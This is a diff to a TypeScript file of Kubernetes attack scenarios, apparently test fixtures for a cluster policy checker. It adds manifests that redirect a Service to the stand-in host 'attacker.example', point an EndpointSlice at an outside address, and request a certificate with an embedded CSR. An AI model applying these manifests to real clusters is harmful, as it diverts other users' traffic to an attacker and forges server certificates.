@@ -15,6 +15,16 @@ function like(apiVersion: string, kind: string, name: string, rest: object, name
 const rbac = 'rbac.authorization.k8s.io';
 const issuer = (name: string) => ({ group: 'cert-manager.io', kind: 'ClusterIssuer', name });
 
+/** A request of no service, by a key that was thrown away. */
+const signingRequest = `-----BEGIN CERTIFICATE REQUEST-----
+MIHKMHICAQAwEDEOMAwGA1UEAwwFYWRkZWQwWTATBgcqhkjOPQIBBggqhkjOPQMB
+BwNCAASORnkJV9v/Oq9o15extLQvDHFRVRGcHZY9oh7KA20fpqYeDWThxVFtAc+3
+Bc0HF8gfTmgCfRcOQy7DNPmAZf64oAAwCgYIKoZIzj0EAwIDSAAwRQIgJ2zMIC0m
+fpXzpLReyzlzHdbNNBomtxpo1u7NcGqc/q4CIQDQb0iSnU5z1zNJ3oIXuqLg0e8l
+405Seyd1VM95zu1wqA==
+-----END CERTIFICATE REQUEST-----
+`;
+
 interface Try {
   readonly id: string;
   readonly name: string;
@@ -31,9 +41,15 @@ const tries: readonly Try[] = [
   },
   {
     id: 'service-exposure',
-    name: 'a Service that takes an address of others',
-    gains: 'the traffic of others (CVE-2020-8554)',
-    objects: () => [altered('Service api/api', { 'spec.externalIPs': ['203.0.113.10'] })],
+    name: 'a Service that is a name outside',
+    gains: 'callers of the API, sent to a host of the attacker',
+    objects: () => [
+      altered('Service api/api', {
+        'spec.type': 'ExternalName',
+        'spec.externalName': 'attacker.example',
+        'spec.clusterIP': undefined,
+      }),
+    ],
   },
   {
     id: 'declared-port',
@@ -44,17 +60,17 @@ const tries: readonly Try[] = [
   {
     id: 'endpoints-by-controllers',
     name: 'addresses of a Service, written by a person',
-    gains: 'the metadata of the cloud by way of the front door',
+    gains: 'callers of the front door, sent to a host of the attacker',
     objects: () => [
       like('discovery.k8s.io/v1', 'EndpointSlice', 'api-added', {
         addressType: 'IPv4',
-        endpoints: [{ addresses: ['169.254.169.254'] }],
+        endpoints: [{ addresses: ['203.0.113.10'] }],
         ports: [{ port: 80, protocol: 'TCP', name: 'http' }],
       }),
     ],
   },
   {
-    id: 'ingress-protection',
+    id: 'ingress-exposure',
     name: 'lines of configuration for the front door',
     gains: 'the front door, with the certificates of every host',
     objects: () => [altered('Ingress api/api', { [`${nginx}configuration-snippet]`]: 'return 200;' })],
@@ -140,7 +156,7 @@ const tries: readonly Try[] = [
     gains: 'the certificate of any server',
     objects: () => [
       like('cert-manager.io/v1', 'CertificateRequest', 'added', {
-        spec: { issuerRef: issuer('internal'), request: Buffer.from('added').toString('base64') },
+        spec: { issuerRef: issuer('internal'), request: Buffer.from(signingRequest).toString('base64') },
       }),
     ],
   },
